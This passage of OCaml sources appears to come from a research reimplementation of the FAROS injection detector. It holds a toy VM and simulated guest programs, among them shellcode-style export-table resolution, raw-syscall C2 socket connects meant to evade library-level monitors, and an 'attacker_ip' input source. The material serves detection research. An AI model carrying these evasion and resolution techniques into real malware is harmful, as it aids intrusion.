   the kernel); r6 scratch for API dispatch; r7 callee-owned long-lived
   value (e.g. the C2 socket handle).  Subroutine generators take a [label]
   prefix so a program can instantiate them without clashes. *)

open Faros_vm

let i x = Asm.I x
let lbl s = Asm.Label s
let movi r v = i (Isa.Mov_ri (r, v))
let movr a b = i (Isa.Mov_rr (a, b))
let addi r v = i (Isa.Add_ri (r, v))
let halt = i Isa.Halt

(* Raw syscall: invisible to library-level monitors. *)
let syscall no = [ movi Isa.r0 no; i Isa.Syscall ]

(* Call an imported API through the IAT: goes through the kernel stub, which
   a library-level monitor (the Cuckoo baseline) hooks. *)
let call_api name =
  [
    Asm.Mov_label (Isa.r6, "iat_" ^ name);
    i (Isa.Load (4, Isa.r6, Isa.based Isa.r6));
    i (Isa.Call_r Isa.r6);
  ]

let cstring label s = [ lbl label; Asm.Bytes s ]
let buffer label n = [ lbl label; Asm.Space n ]

(* Load the address of [label] into [r]. *)
let lea_label r label = Asm.Mov_label (r, label)

(* memcpy(r1 = dst, r2 = src, r3 = len); clobbers r4, r5. *)
let memcpy_sub ~label =
  [
    lbl label;
    movi Isa.r4 0;
    lbl (label ^ "_loop");
    i (Isa.Cmp_rr (Isa.r4, Isa.r3));
    Asm.Jge_l (label ^ "_done");
    i (Isa.Load (1, Isa.r5, Isa.indexed ~base:Isa.r2 ~scale:1 Isa.r4));
    i (Isa.Store (1, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4, Isa.r5));
    addi Isa.r4 1;
    Asm.Jmp_l (label ^ "_loop");
    lbl (label ^ "_done");
    i Isa.Ret;
  ]

(* Export-directory scan: r1 = name hash -> r0 = function pointer (0 when
   not found); clobbers r2..r6.

   This is the reflective-resolution routine real shellcode implements over
   the PEB/export directory.  The final [load4 r0, (entry+4)] reads an
   export-table-tagged pointer: when this routine's own bytes carry injected
   provenance, that load is precisely what FAROS flags (Figs. 7-10). *)
let export_scan_sub ~label =
  [
    lbl label;
    movi Isa.r2 Faros_os.Export_table.export_dir_vaddr;
    i (Isa.Load (4, Isa.r3, Isa.based Isa.r2));
    (* count *)
    movi Isa.r4 0;
    lbl (label ^ "_loop");
    i (Isa.Cmp_rr (Isa.r4, Isa.r3));
    Asm.Jge_l (label ^ "_notfound");
    movr Isa.r5 Isa.r4;
    i (Isa.Shl_ri (Isa.r5, 3));
    i (Isa.Add_rr (Isa.r5, Isa.r2));
    (* r5 = dir + 8*i; entry at r5+4: hash, pointer at r5+8 *)
    i (Isa.Load (4, Isa.r6, Isa.based ~disp:4 Isa.r5));
    i (Isa.Cmp_rr (Isa.r6, Isa.r1));
    Asm.Jnz_l (label ^ "_next");
    i (Isa.Load (4, Isa.r0, Isa.based ~disp:8 Isa.r5));
    i Isa.Ret;
    lbl (label ^ "_next");
    addi Isa.r4 1;
    Asm.Jmp_l (label ^ "_loop");
    lbl (label ^ "_notfound");
    movi Isa.r0 0;
    i Isa.Ret;
  ]

(* recv_exact(r1 = socket handle, r2 = buf, r3 = len): loops raw recv until
   [len] bytes arrived or the stream is dry; returns bytes read in r4. *)
let recv_exact_sub ~label =
  [
    lbl label;
    movi Isa.r4 0;
    lbl (label ^ "_loop");
    i (Isa.Cmp_rr (Isa.r4, Isa.r3));
    Asm.Jge_l (label ^ "_done");
    i (Isa.Push Isa.r2);
    i (Isa.Push Isa.r3);
    (* r2 <- buf + got, r3 <- len - got *)
    i (Isa.Lea (Isa.r5, Isa.indexed ~base:Isa.r2 ~scale:1 Isa.r4));
    movr Isa.r6 Isa.r3;
    i (Isa.Sub_rr (Isa.r6, Isa.r4));
    movr Isa.r2 Isa.r5;
    movr Isa.r3 Isa.r6;
    movi Isa.r0 Faros_os.Syscall.sys_recv;
    i Isa.Syscall;
    i (Isa.Pop Isa.r3);
    i (Isa.Pop Isa.r2);
    i (Isa.Cmp_ri (Isa.r0, 0));
    Asm.Jz_l (label ^ "_done");
    i (Isa.Add_rr (Isa.r4, Isa.r0));
    Asm.Jmp_l (label ^ "_loop");
    lbl (label ^ "_done");
    i Isa.Ret;
  ]

(* Connect to [ip]:[port] with raw syscalls; socket handle left in r7. *)
let connect_raw ~ip ~port =
  List.concat
    [
      syscall Faros_os.Syscall.sys_socket;
      [ movr Isa.r7 Isa.r0 ];
      [ movr Isa.r1 Isa.r7; movi Isa.r2 (Faros_os.Types.Ip.of_string ip); movi Isa.r3 port ];
      syscall Faros_os.Syscall.sys_connect;
    ]

(* Connect using the imported socket/connect APIs (Cuckoo-visible). *)
let connect_api ~ip ~port =
  List.concat
    [
      call_api "socket";
      [ movr Isa.r7 Isa.r0 ];
      [ movr Isa.r1 Isa.r7; movi Isa.r2 (Faros_os.Types.Ip.of_string ip); movi Isa.r3 port ];
      call_api "connect";
    ]

(* Busy work: [count] iterations of tick polling — keeps a victim process
   alive while the injector works.  Counts in r6, never r7: fragments keep
   their socket handle there. *)
let idle_loop ~label ~count =
  List.concat
    [
      [ movi Isa.r6 count; lbl (label ^ "_loop") ];
      syscall Faros_os.Syscall.nt_get_tick_count;
      [
        i (Isa.Sub_ri (Isa.r6, 1));
        i (Isa.Cmp_ri (Isa.r6, 0));
        Asm.Jnz_l (label ^ "_loop");
      ];
    ]

(* Guest-side u32 little-endian length prefix protocol helpers: the actor
   sends [len:u32][payload]. *)
let prefixed_recv ~sock_reg ~len_buf ~data_buf ~recv_sub =
  List.concat
    [
      [ movr Isa.r1 sock_reg; lea_label Isa.r2 len_buf; movi Isa.r3 4; Asm.Call_l recv_sub ];
      [ lea_label Isa.r5 len_buf; i (Isa.Load (4, Isa.r3, Isa.based Isa.r5)) ];
      [ movr Isa.r1 sock_reg; lea_label Isa.r2 data_buf; Asm.Call_l recv_sub ];
    ]

(* Encode a u32 little-endian into a string (host side). *)
let u32_le v =
  String.init 4 (fun k -> Char.chr ((v lsr (8 * k)) land 0xFF))

(* Frame a payload with its length prefix (host side, for actors). *)
let frame payload = u32_le (String.length payload) ^ payload
