(** Benign software from Table IV: remote-admin tools whose behaviours
    overlap heavily with the RATs (the point of the false-positive study)
    plus a purely local tool. *)

val server_ip : string

val networked :
  name:string -> port:int -> behaviors:Behavior.t list -> seed:int -> Scenario.t

val snipping_tool : seed:int -> Scenario.t
(** Screenshot to file, no network at all. *)

val programs : (string * int * Behavior.t list) list

val samples :
  ?total:int -> unit -> (string * string * Behavior.t list * Scenario.t) list
(** [total] builds (default 14). *)
