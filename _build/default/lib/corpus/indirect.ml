(* The indirect-flow experiments of Figs. 1 and 2.

   Two guest programs receive tainted input over the network and copy it to
   an output buffer through an indirect flow only:

   - [lookup_copy] (Fig. 1): str2[j] = lookuptable[str1[j]] — an address
     dependency.  Direct-flow DIFT loses the taint (undertainting);
     address-dependency propagation keeps it at the cost of tainting every
     table-indexed computation in the system (overtainting).
   - [bit_copy] (Fig. 2): copies the input bit by bit through an if — a
     control dependency with the same dilemma.

   The scenario builders return the output buffer's virtual address so the
   experiment can interrogate shadow memory afterwards. *)

open Faros_vm

let input_len = 14  (* "Tainted string" *)

let attacker_ip = "169.254.26.161"
let attacker_port = 4040

let common_net ~request_len:_ =
  List.concat
    [
      [ Progs.lbl "start" ];
      Progs.connect_raw ~ip:attacker_ip ~port:attacker_port;
      (* read exactly the input string *)
      [
        Progs.movr Isa.r1 Isa.r7;
        Progs.lea_label Isa.r2 "str1";
        Progs.movi Isa.r3 input_len;
        Asm.Call_l "recvx";
      ];
    ]

(* Fig. 1: for (j...) str2[j] = lookuptable[str1[j]] *)
let lookup_image () =
  let items =
    List.concat
      [
        common_net ~request_len:0;
        [
          Progs.movi Isa.r4 0;
          Progs.lbl "copy";
          Progs.i (Isa.Cmp_ri (Isa.r4, input_len));
          Asm.Jge_l "done";
          Asm.Mov_label (Isa.r1, "str1");
          Progs.i (Isa.Load (1, Isa.r2, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4));
          (* the address dependency: str1's byte becomes an index *)
          Asm.Mov_label (Isa.r1, "lookuptable");
          Progs.i (Isa.Load (1, Isa.r2, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r2));
          Asm.Mov_label (Isa.r1, "str2");
          Progs.i (Isa.Store (1, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4, Isa.r2));
          Progs.addi Isa.r4 1;
          Asm.Jmp_l "copy";
          Progs.lbl "done";
          Progs.halt;
        ];
        Progs.recv_exact_sub ~label:"recvx";
        Progs.buffer "str1" 16;
        Progs.buffer "str2" 16;
        Progs.cstring "lookuptable" (String.init 256 Char.chr);
      ]
  in
  Faros_os.Pe.of_program ~name:"lookup_copy.exe" ~base:Faros_os.Process.image_base
    ~exports:[ "str1"; "str2" ] items

(* Fig. 2: untaintedoutput |= bit when (bit & taintedinput) — per input byte. *)
let bitcopy_image () =
  let items =
    List.concat
      [
        common_net ~request_len:0;
        [
          Progs.movi Isa.r4 0;  (* byte index *)
          Progs.lbl "bytes";
          Progs.i (Isa.Cmp_ri (Isa.r4, input_len));
          Asm.Jge_l "done";
          Asm.Mov_label (Isa.r1, "str1");
          Progs.i (Isa.Load (1, Isa.r1, Isa.indexed ~base:Isa.r1 ~scale:1 Isa.r4));
          Progs.movi Isa.r2 0;  (* output accumulator *)
          Progs.movi Isa.r3 1;  (* bit *)
          Progs.lbl "bits";
          Progs.i (Isa.Cmp_ri (Isa.r3, 256));
          Asm.Jge_l "byte_done";
          Progs.movr Isa.r5 Isa.r1;
          Progs.i (Isa.And_rr (Isa.r5, Isa.r3));
          Progs.i (Isa.Cmp_ri (Isa.r5, 0));
          Asm.Jz_l "skip";
          Progs.i (Isa.Or_rr (Isa.r2, Isa.r3));  (* the control-dependent write *)
          Progs.lbl "skip";
          Progs.i (Isa.Shl_ri (Isa.r3, 1));
          Asm.Jmp_l "bits";
          Progs.lbl "byte_done";
          Asm.Mov_label (Isa.r5, "str2");
          Progs.i (Isa.Store (1, Isa.indexed ~base:Isa.r5 ~scale:1 Isa.r4, Isa.r2));
          Progs.addi Isa.r4 1;
          Asm.Jmp_l "bytes";
          Progs.lbl "done";
          Progs.halt;
        ];
        Progs.recv_exact_sub ~label:"recvx";
        Progs.buffer "str1" 16;
        Progs.buffer "str2" 16;
      ]
  in
  Faros_os.Pe.of_program ~name:"bit_copy.exe" ~base:Faros_os.Process.image_base
    ~exports:[ "str1"; "str2" ] items

let actor =
  {
    Faros_os.Netstack.actor_name = "source";
    actor_ip = Faros_os.Types.Ip.of_string attacker_ip;
    actor_port = attacker_port;
    on_connect = (fun _ -> [ "Tainted string" ]);
    on_data = (fun _ _ -> []);
  }

type experiment = {
  exp_name : string;
  exp_scenario : Scenario.t;
  exp_input_vaddr : int;  (* str1 *)
  exp_output_vaddr : int;  (* str2 *)
  exp_len : int;
}

(* The images export str1/str2 so the experiment can find the buffers. *)
let symbol image label =
  match List.assoc_opt label image.Faros_os.Pe.exports with
  | Some a -> a
  | None -> invalid_arg ("Indirect.symbol: " ^ label)

let lookup_experiment () =
  let image = lookup_image () in
  {
    exp_name = "fig1-lookup-copy";
    exp_scenario =
      Scenario.make "indirect_lookup"
        ~images:[ ("lookup_copy.exe", image) ]
        ~actors:[ actor ] ~boot:[ "lookup_copy.exe" ];
    exp_input_vaddr = symbol image "str1";
    exp_output_vaddr = symbol image "str2";
    exp_len = input_len;
  }

let bitcopy_experiment () =
  let image = bitcopy_image () in
  {
    exp_name = "fig2-bit-copy";
    exp_scenario =
      Scenario.make "indirect_bitcopy"
        ~images:[ ("bit_copy.exe", image) ]
        ~actors:[ actor ] ~boot:[ "bit_copy.exe" ];
    exp_input_vaddr = symbol image "str1";
    exp_output_vaddr = symbol image "str2";
    exp_len = input_len;
  }
