(** Pretty-printer / disassembler for guest instructions. *)

val pp_addr : Isa.addr Fmt.t
val pp : Isa.t Fmt.t
val to_string : Isa.t -> string

val buffer : Bytes.t -> (int * Isa.t) list
(** Disassemble a flat code buffer into (offset, instruction) pairs;
    stops at the first undecodable byte. *)
