(* MMU: virtual address spaces over {!Phys_mem}.

   Each guest process owns one address space; its identifier plays the role
   x86's CR3 plays in the paper — the architecture-level identity of a
   process, and the value FAROS uses for process tags.  The kernel region is
   a set of frames mapped (shared) into every address space, which is what
   lets export-table tags, attached to physical bytes, be visible from any
   process. *)

type space = {
  asid : int;  (* the "CR3" value *)
  mutable space_name : string;
  table : (int, int) Hashtbl.t;  (* vpn -> pfn *)
}

type t = {
  mem : Phys_mem.t;
  spaces : (int, space) Hashtbl.t;
  mutable next_asid : int;
}

exception Page_fault of { asid : int; vaddr : int }

let page_size = Phys_mem.page_size
let page_shift = Phys_mem.page_shift

let create mem = { mem; spaces = Hashtbl.create 16; next_asid = 1 }

let create_space t ~name =
  let asid = t.next_asid in
  t.next_asid <- asid + 1;
  let s = { asid; space_name = name; table = Hashtbl.create 64 } in
  Hashtbl.replace t.spaces asid s;
  s

let destroy_space t space = Hashtbl.remove t.spaces space.asid

let find_space t asid =
  match Hashtbl.find_opt t.spaces asid with
  | Some s -> s
  | None -> raise (Page_fault { asid; vaddr = -1 })

let space_name t asid =
  match Hashtbl.find_opt t.spaces asid with
  | Some s -> s.space_name
  | None -> Printf.sprintf "asid%d" asid

(* Map [pages] fresh zero frames at [vaddr] (page aligned). *)
let map t space ~vaddr ~pages =
  let vpn0 = vaddr lsr page_shift in
  for i = 0 to pages - 1 do
    Hashtbl.replace space.table (vpn0 + i) (Phys_mem.alloc_frame t.mem)
  done

(* Map existing frames (sharing) at [vaddr]. *)
let map_frames space ~vaddr pfns =
  let vpn0 = vaddr lsr page_shift in
  List.iteri (fun i pfn -> Hashtbl.replace space.table (vpn0 + i) pfn) pfns

let unmap space ~vaddr ~pages =
  let vpn0 = vaddr lsr page_shift in
  for i = 0 to pages - 1 do
    Hashtbl.remove space.table (vpn0 + i)
  done

let frames_of space ~vaddr ~pages =
  let vpn0 = vaddr lsr page_shift in
  List.init pages (fun i ->
      match Hashtbl.find_opt space.table (vpn0 + i) with
      | Some pfn -> pfn
      | None -> raise (Page_fault { asid = space.asid; vaddr = (vpn0 + i) lsl page_shift }))

let is_mapped space ~vaddr = Hashtbl.mem space.table (vaddr lsr page_shift)

let mapped_ranges space =
  let vpns = Hashtbl.fold (fun vpn _ acc -> vpn :: acc) space.table [] in
  let vpns = List.sort compare vpns in
  let rec group acc cur = function
    | [] -> List.rev (match cur with None -> acc | Some r -> r :: acc)
    | vpn :: rest -> (
      match cur with
      | Some (lo, hi) when vpn = hi + 1 -> group acc (Some (lo, vpn)) rest
      | Some r -> group (r :: acc) (Some (vpn, vpn)) rest
      | None -> group acc (Some (vpn, vpn)) rest)
  in
  group [] None vpns
  |> List.map (fun (lo, hi) -> (lo lsl page_shift, (hi - lo + 1) * page_size))

let translate t ~asid vaddr =
  let space = find_space t asid in
  match Hashtbl.find_opt space.table (vaddr lsr page_shift) with
  | Some pfn -> (pfn lsl page_shift) lor (vaddr land (page_size - 1))
  | None -> raise (Page_fault { asid; vaddr })

let read_u8 t ~asid vaddr = Phys_mem.read_u8 t.mem (translate t ~asid vaddr)
let write_u8 t ~asid vaddr v = Phys_mem.write_u8 t.mem (translate t ~asid vaddr) v

(* Multi-byte accesses translate per byte so they may legally span pages. *)
let read ~width t ~asid vaddr =
  let rec go i acc =
    if i >= width then acc
    else go (i + 1) (acc lor (read_u8 t ~asid (vaddr + i) lsl (8 * i)))
  in
  go 0 0

let write ~width t ~asid vaddr v =
  for i = 0 to width - 1 do
    write_u8 t ~asid (vaddr + i) ((v lsr (8 * i)) land 0xFF)
  done

let read_bytes t ~asid vaddr len =
  let b = Bytes.create len in
  for i = 0 to len - 1 do
    Bytes.set b i (Char.chr (read_u8 t ~asid (vaddr + i)))
  done;
  b

let write_bytes t ~asid vaddr b =
  for i = 0 to Bytes.length b - 1 do
    write_u8 t ~asid (vaddr + i) (Char.code (Bytes.get b i))
  done

(* Physical addresses of the [len] bytes starting at [vaddr]. *)
let phys_range t ~asid vaddr len =
  List.init len (fun i -> translate t ~asid (vaddr + i))
