(* Physical memory: a sparse store of 4 KiB frames.

   Frames are allocated on demand by the MMU; shadow (taint) state is kept
   by the DIFT library keyed on physical addresses, so frame identity is the
   ground truth that lets taint survive cross-address-space sharing (the
   kernel's export-table region is one set of frames mapped everywhere). *)

let page_size = 4096
let page_shift = 12

type t = {
  frames : (int, Bytes.t) Hashtbl.t;  (* pfn -> contents *)
  mutable next_pfn : int;
}

exception Bad_frame of int

let create () = { frames = Hashtbl.create 256; next_pfn = 0 }

let alloc_frame t =
  let pfn = t.next_pfn in
  t.next_pfn <- pfn + 1;
  Hashtbl.replace t.frames pfn (Bytes.make page_size '\000');
  pfn

let frame t pfn =
  match Hashtbl.find_opt t.frames pfn with
  | Some b -> b
  | None -> raise (Bad_frame pfn)

let frame_count t = Hashtbl.length t.frames

(* Physical addresses are [pfn * page_size + offset]. *)
let read_u8 t paddr =
  let b = frame t (paddr lsr page_shift) in
  Char.code (Bytes.get b (paddr land (page_size - 1)))

let write_u8 t paddr v =
  let b = frame t (paddr lsr page_shift) in
  Bytes.set b (paddr land (page_size - 1)) (Char.chr (v land 0xFF))

let read ~width t paddr =
  let rec go i acc =
    if i >= width then acc else go (i + 1) (acc lor (read_u8 t (paddr + i) lsl (8 * i)))
  in
  go 0 0

let write ~width t paddr v =
  for i = 0 to width - 1 do
    write_u8 t (paddr + i) ((v lsr (8 * i)) land 0xFF)
  done
