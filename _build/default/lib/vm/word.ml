(* 32-bit word arithmetic on top of OCaml's native [int].

   All guest values are kept masked to 32 bits.  Signedness only matters
   for comparisons, where [to_signed] re-interprets the masked value. *)

let mask = 0xFFFFFFFF

let of_int v = v land mask

let to_signed v =
  let v = v land mask in
  if v land 0x80000000 <> 0 then v - 0x100000000 else v

let add a b = (a + b) land mask
let sub a b = (a - b) land mask
let mul a b = (a * b) land mask
let logand a b = (a land b) land mask
let logor a b = (a lor b) land mask
let logxor a b = (a lxor b) land mask
let lognot a = lnot a land mask

let shift_left a n = if n >= 32 then 0 else (a lsl n) land mask

let shift_right a n = if n >= 32 then 0 else (a land mask) lsr n

(* Truncate a value to a load/store width in bytes (1, 2 or 4). *)
let truncate ~width v =
  match width with
  | 1 -> v land 0xFF
  | 2 -> v land 0xFFFF
  | 4 -> v land mask
  | w -> invalid_arg (Printf.sprintf "Word.truncate: width %d" w)

let pp ppf v = Fmt.pf ppf "0x%08x" (v land mask)
