(** The machine: physical memory plus its MMU.

    CPUs (one per guest process, managed by the kernel's scheduler) execute
    against the shared machine.  Execution hooks let whole-system analyses
    — the FAROS plugin in particular — observe every instruction, in the
    same position PANDA's instrumentation occupies over QEMU. *)

type t = {
  mem : Phys_mem.t;
  mmu : Mmu.t;
  mutable hooks : (Cpu.t -> Cpu.effect -> unit) list;
}

val create : unit -> t

val add_exec_hook : t -> (Cpu.t -> Cpu.effect -> unit) -> unit
(** Hooks run after each successfully executed instruction, in registration
    order. *)

val clear_exec_hooks : t -> unit

val step : t -> Cpu.t -> Cpu.step_result
(** {!Cpu.step} plus hook dispatch. *)
