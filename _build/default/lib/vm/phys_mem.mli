(** Physical memory: a sparse store of 4 KiB frames.

    Frames are allocated on demand by the MMU; shadow (taint) state is
    keyed on physical addresses, so frame identity is the ground truth that
    lets taint survive cross-address-space sharing (the kernel's
    export-table region is one set of frames mapped everywhere). *)

val page_size : int
val page_shift : int

type t

exception Bad_frame of int

val create : unit -> t

val alloc_frame : t -> int
(** Allocate a zeroed frame; returns its frame number. *)

val frame : t -> int -> Bytes.t
(** Raw contents of a frame.  Raises {!Bad_frame}. *)

val frame_count : t -> int

val read_u8 : t -> int -> int
(** Read the byte at a physical address ([pfn * page_size + offset]). *)

val write_u8 : t -> int -> int -> unit

val read : width:int -> t -> int -> int
(** Little-endian multi-byte read. *)

val write : width:int -> t -> int -> int -> unit
