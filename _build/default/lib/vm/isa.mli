(** Instruction set of the guest machine.

    A small 32-bit register machine, rich enough to express the workloads
    FAROS cares about: byte-granular loads and stores, scaled-index-base
    addressing (needed for the address-dependency experiments of Fig. 1 and
    the Minos ablation), conditional branches (control dependencies,
    Fig. 2), calls through registers (how injected payloads invoke resolved
    kernel functions) and a SYSCALL trap into the miniature NT kernel. *)

type reg = int
(** 0..7 are general purpose (r0..r7); 8 is sp; 9 is bp. *)

val num_regs : int

val r0 : reg
val r1 : reg
val r2 : reg
val r3 : reg
val r4 : reg
val r5 : reg
val r6 : reg
val r7 : reg
val sp : reg
val bp : reg

val reg_name : reg -> string

(** Effective address: [base + index*scale + disp].  Scale is 1, 2 or 4. *)
type addr = { base : reg option; index : reg option; scale : int; disp : int }

val abs : int -> addr
(** Absolute address (displacement only). *)

val based : ?disp:int -> reg -> addr
(** Base register plus displacement. *)

val indexed : ?disp:int -> ?base:reg -> scale:int -> reg -> addr
(** Scaled-index(-base) address. *)

type width = int
(** Access width in bytes: 1, 2 or 4. *)

type t =
  | Nop
  | Halt  (** terminate the process; r1 carries the exit code *)
  | Mov_ri of reg * int
  | Mov_rr of reg * reg
  | Load of width * reg * addr
  | Store of width * addr * reg
  | Lea of reg * addr
  | Push of reg
  | Pop of reg
  | Add_rr of reg * reg
  | Add_ri of reg * int
  | Sub_rr of reg * reg
  | Sub_ri of reg * int
  | Mul_rr of reg * reg
  | And_rr of reg * reg
  | And_ri of reg * int
  | Or_rr of reg * reg
  | Or_ri of reg * int
  | Xor_rr of reg * reg
  | Xor_ri of reg * int
  | Shl_ri of reg * int
  | Shr_ri of reg * int
  | Shl_rr of reg * reg
  | Shr_rr of reg * reg
  | Not_r of reg
  | Cmp_rr of reg * reg
  | Cmp_ri of reg * int
  | Test_rr of reg * reg
  | Jmp of int
  | Jz of int
  | Jnz of int
  | Jl of int
  | Jge of int
  | Jg of int
  | Jle of int
  | Call of int
  | Call_r of reg
  | Jmp_r of reg
  | Ret
  | Syscall  (** trap to the kernel: number in r0, args in r1..r5 *)
  | Int3

val is_branch : t -> bool

val is_conditional : t -> bool
(** Branches whose outcome depends on the flags: the control-dependency
    policy (Fig. 2) keys on these. *)
