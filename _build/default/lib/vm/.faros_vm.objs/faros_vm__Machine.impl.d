lib/vm/machine.ml: Cpu List Mmu Phys_mem
