lib/vm/mmu.mli: Bytes Hashtbl Phys_mem
