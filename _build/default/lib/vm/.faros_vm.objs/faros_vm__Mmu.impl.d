lib/vm/mmu.ml: Bytes Char Hashtbl List Phys_mem Printf
