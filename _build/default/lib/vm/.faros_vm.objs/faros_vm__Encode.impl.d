lib/vm/encode.ml: Buffer Char Isa Option Printf Word
