lib/vm/isa.mli:
