lib/vm/isa.ml: Printf
