lib/vm/decode.mli: Bytes Isa
