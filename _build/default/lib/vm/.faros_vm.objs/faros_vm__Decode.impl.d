lib/vm/decode.ml: Bytes Char Encode Isa
