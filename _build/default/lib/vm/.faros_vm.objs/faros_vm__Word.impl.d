lib/vm/word.ml: Fmt Printf
