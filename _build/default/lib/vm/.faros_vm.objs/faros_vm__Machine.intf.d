lib/vm/machine.mli: Cpu Mmu Phys_mem
