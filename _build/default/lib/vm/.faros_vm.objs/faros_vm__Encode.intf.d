lib/vm/encode.mli: Buffer Bytes Isa
