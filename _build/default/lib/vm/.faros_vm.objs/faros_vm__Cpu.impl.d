lib/vm/cpu.ml: Array Decode Fmt Isa List Mmu Word
