lib/vm/disasm.mli: Bytes Fmt Isa
