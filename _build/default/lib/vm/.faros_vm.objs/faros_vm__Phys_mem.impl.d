lib/vm/phys_mem.ml: Bytes Char Hashtbl
