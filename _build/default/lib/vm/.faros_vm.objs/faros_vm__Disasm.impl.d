lib/vm/disasm.ml: Bytes Decode Fmt Isa List Printf String
