lib/vm/asm.ml: Buffer Bytes Encode Hashtbl Isa List String Word
