lib/vm/asm.mli: Bytes Isa
