lib/vm/word.mli: Fmt
