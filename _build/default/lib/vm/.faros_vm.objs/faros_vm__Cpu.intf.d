lib/vm/cpu.mli: Fmt Isa Mmu
