(* Instruction set of the guest machine.

   A small 32-bit register machine, rich enough to express the workloads
   FAROS cares about: byte-granular loads and stores, scaled-index-base
   addressing (needed for the address-dependency experiments of Fig. 1 and
   the Minos ablation), conditional branches (control dependencies, Fig. 2),
   calls through registers (how injected payloads invoke resolved kernel
   functions) and a SYSCALL trap into the miniature NT kernel. *)

type reg = int
(* 0..7 are general purpose (r0..r7); 8 is sp; 9 is bp. *)

let num_regs = 10
let r0 = 0
let r1 = 1
let r2 = 2
let r3 = 3
let r4 = 4
let r5 = 5
let r6 = 6
let r7 = 7
let sp = 8
let bp = 9

let reg_name = function
  | 8 -> "sp"
  | 9 -> "bp"
  | r when r >= 0 && r < 8 -> Printf.sprintf "r%d" r
  | r -> Printf.sprintf "bad%d" r

(* Effective address: base + index*scale + disp.  Scale is 1, 2 or 4. *)
type addr = { base : reg option; index : reg option; scale : int; disp : int }

let abs disp = { base = None; index = None; scale = 1; disp }
let based ?(disp = 0) base = { base = Some base; index = None; scale = 1; disp }

let indexed ?(disp = 0) ?base ~scale index =
  { base; index = Some index; scale; disp }

type width = int
(* 1, 2 or 4 bytes. *)

type t =
  | Nop
  | Halt
  | Mov_ri of reg * int
  | Mov_rr of reg * reg
  | Load of width * reg * addr
  | Store of width * addr * reg
  | Lea of reg * addr
  | Push of reg
  | Pop of reg
  | Add_rr of reg * reg
  | Add_ri of reg * int
  | Sub_rr of reg * reg
  | Sub_ri of reg * int
  | Mul_rr of reg * reg
  | And_rr of reg * reg
  | And_ri of reg * int
  | Or_rr of reg * reg
  | Or_ri of reg * int
  | Xor_rr of reg * reg
  | Xor_ri of reg * int
  | Shl_ri of reg * int
  | Shr_ri of reg * int
  | Shl_rr of reg * reg
  | Shr_rr of reg * reg
  | Not_r of reg
  | Cmp_rr of reg * reg
  | Cmp_ri of reg * int
  | Test_rr of reg * reg
  | Jmp of int
  | Jz of int
  | Jnz of int
  | Jl of int
  | Jge of int
  | Jg of int
  | Jle of int
  | Call of int
  | Call_r of reg
  | Jmp_r of reg
  | Ret
  | Syscall
  | Int3

let is_branch = function
  | Jmp _ | Jz _ | Jnz _ | Jl _ | Jge _ | Jg _ | Jle _ | Call _ | Call_r _
  | Jmp_r _ | Ret ->
    true
  | Nop | Halt | Mov_ri _ | Mov_rr _ | Load _ | Store _ | Lea _ | Push _
  | Pop _ | Add_rr _ | Add_ri _ | Sub_rr _ | Sub_ri _ | Mul_rr _ | And_rr _
  | And_ri _ | Or_rr _ | Or_ri _ | Xor_rr _ | Xor_ri _ | Shl_ri _ | Shr_ri _
  | Shl_rr _ | Shr_rr _ | Not_r _ | Cmp_rr _ | Cmp_ri _ | Test_rr _ | Syscall
  | Int3 ->
    false

(* Conditional branches whose outcome depends on the flags: the control-
   dependency policy (Fig. 2) keys on these. *)
let is_conditional = function
  | Jz _ | Jnz _ | Jl _ | Jge _ | Jg _ | Jle _ -> true
  | _ -> false
