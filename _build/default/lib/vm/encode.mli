(** Binary encoding of instructions.

    Instructions must live as bytes in guest memory: FAROS's flagging rule
    inspects the provenance of the {e code bytes} of the executing
    instruction, so injected payloads travel through the system as data and
    only become code when fetched.

    Layout: one opcode byte, then operands in order.  Registers are one
    byte; immediates and branch targets are 4-byte little-endian words;
    effective addresses are a mode byte, base byte, index byte and a 4-byte
    displacement. *)

(** Opcode values — exposed so guest JIT compilers in the corpus can emit
    code at runtime. *)

val op_nop : int
val op_halt : int
val op_mov_ri : int
val op_mov_rr : int
val op_load1 : int
val op_load2 : int
val op_load4 : int
val op_store1 : int
val op_store2 : int
val op_store4 : int
val op_lea : int
val op_push : int
val op_pop : int
val op_add_rr : int
val op_add_ri : int
val op_sub_rr : int
val op_sub_ri : int
val op_mul_rr : int
val op_and_rr : int
val op_and_ri : int
val op_or_rr : int
val op_or_ri : int
val op_xor_rr : int
val op_xor_ri : int
val op_shl_ri : int
val op_shr_ri : int
val op_not_r : int
val op_shl_rr : int
val op_shr_rr : int
val op_cmp_rr : int
val op_cmp_ri : int
val op_test_rr : int
val op_jmp : int
val op_jz : int
val op_jnz : int
val op_jl : int
val op_jge : int
val op_jg : int
val op_jle : int
val op_call : int
val op_call_r : int
val op_jmp_r : int
val op_ret : int
val op_syscall : int
val op_int3 : int

val put_u32 : Buffer.t -> int -> unit
(** Append a 4-byte little-endian word (also used by the assembler's data
    directives). *)

val emit : Buffer.t -> Isa.t -> unit
(** Append one encoded instruction.  Raises [Invalid_argument] on bad
    registers, widths or scales. *)

val to_bytes : Isa.t -> Bytes.t

val length : Isa.t -> int
(** Encoded length without emitting — the assembler's first pass. *)
