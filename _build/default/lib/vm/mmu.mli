(** MMU: virtual address spaces over {!Phys_mem}.

    Each guest process owns one address space; its identifier plays the
    role x86's CR3 plays in the paper — the architecture-level identity of
    a process, and the value FAROS uses for process tags.  The kernel
    region is a set of frames mapped (shared) into every address space,
    which is what lets export-table tags, attached to physical bytes, be
    visible from any process. *)

type space = {
  asid : int;  (** the "CR3" value *)
  mutable space_name : string;
  table : (int, int) Hashtbl.t;  (** vpn -> pfn *)
}

type t = {
  mem : Phys_mem.t;
  spaces : (int, space) Hashtbl.t;
  mutable next_asid : int;
}

exception Page_fault of { asid : int; vaddr : int }

val page_size : int
val page_shift : int

val create : Phys_mem.t -> t
val create_space : t -> name:string -> space
val destroy_space : t -> space -> unit
val find_space : t -> int -> space

val space_name : t -> int -> string
(** Display name for an address space (process image name). *)

val map : t -> space -> vaddr:int -> pages:int -> unit
(** Map fresh zero frames at a page-aligned virtual address. *)

val map_frames : space -> vaddr:int -> int list -> unit
(** Map existing frames (sharing). *)

val unmap : space -> vaddr:int -> pages:int -> unit

val frames_of : space -> vaddr:int -> pages:int -> int list
(** Frame numbers backing a mapped range.  Raises {!Page_fault} on holes. *)

val is_mapped : space -> vaddr:int -> bool

val mapped_ranges : space -> (int * int) list
